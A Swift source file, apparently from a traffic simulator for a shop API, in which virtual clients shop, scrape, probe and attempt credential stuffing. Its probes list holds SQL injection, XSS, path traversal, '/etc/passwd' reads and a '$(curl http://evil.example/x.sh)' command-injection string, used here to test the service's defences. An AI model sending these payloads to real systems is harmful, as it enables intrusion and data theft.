import Foundation
import HTTP

extension Simulator {
    static let probes = [
        "1' OR '1'='1", "' UNION SELECT email, password FROM users--", "1; DROP TABLE orders--", "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>", "; cat /etc/passwd", "$(curl http://evil.example/x.sh)", "../../../../etc/passwd",
    ]

    /// The request `actor` sends next (nil: nothing this turn), updating what it remembers.
    func plan(_ actor: inout VirtualClient, scenario: String, step: Int) async -> HTTPClientRequest? {
        switch actor.role {
        case .shopper: return shop(&actor, scenario: scenario)
        case .prober:
            let probe = Self.probes[Int(actor.random.next() % UInt64(Self.probes.count))]
            if actor.random.unit() < 0.5 {
                return .get("/api/products?q=" + (probe.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
            }
            return .post("/api/events", json: #"{"type":"view","productId":"\#(probe.replacingOccurrences(of: "\"", with: "\\\""))"}"#)
        case .scraper:
            // Walks the catalog page by page, far over the rate limit.
            return .get("/api/products?limit=50&category=\(["tea", "coffee", "kitchen", "books"][step % 4])")
        case .stuffer:
            let guess = actor.random.next() % 100_000
            return .post("/api/sessions", json: #"{"email":"customer\#(guess)@example.com","password":"Summer2026!"}"#)
        }
    }

    /// A shopper's next move: sign up and in first, then browse by popularity and taste, view, add to the
    /// cart, and now and then order (in a flash sale: the hot product).
    private func shop(_ actor: inout VirtualClient, scenario: String) -> HTTPClientRequest? {
        guard let token = actor.token else {
            let body = #"{"email":"\#(actor.email)","password":"\#(actor.password)"}"#
            // Sign-up first (a 409 later means the account exists), then sign-in, alternating until a token comes back.
            actor.signInAttempts += 1
            return .post(actor.signInAttempts % 2 == 1 ? "/api/users" : "/api/sessions", json: body)
        }
        var headers = HTTPHeaders()
        headers.set("Authorization", "Bearer \(token)")
        headers.set("User-Agent", "Mozilla/5.0 (shopdeck simulator; shopper \(actor.index))")
        let products = settings.products
        let roll = actor.random.unit()
        if scenario == "flash-sale", roll < 0.5 {
            headers.set("Idempotency-Key", "sim-\(settings.seed)-\(actor.index)-\(actor.random.next())")
            return .post("/api/orders", json: #"{"items":[{"productId":"\#(settings.hotProduct)","quantity":1}]}"#, headers: headers)
        }
        let product = actor.random.unit() < 0.7 && !actor.taste.isEmpty
            ? actor.taste[actor.random.zipf(actor.taste.count)] : products[actor.random.zipf(products.count)]
        switch roll {
        case ..<0.45: return .get("/api/products/\(product)", headers: headers)
        case ..<0.7: return .post("/api/events", json: #"{"type":"view","productId":"\#(product)"}"#, headers: headers)
        case ..<0.8: return .get("/api/products/\(product)/similar", headers: headers)
        case ..<0.9: return .post("/api/events", json: #"{"type":"add_to_cart","productId":"\#(product)"}"#, headers: headers)
        case ..<0.95: return .get("/api/recommendations", headers: headers)
        default:
            headers.set("Idempotency-Key", "sim-\(settings.seed)-\(actor.index)-\(actor.random.next())")
            return .post("/api/orders", json: #"{"items":[{"productId":"\#(product)","quantity":1}]}"#, headers: headers)
        }
    }
}
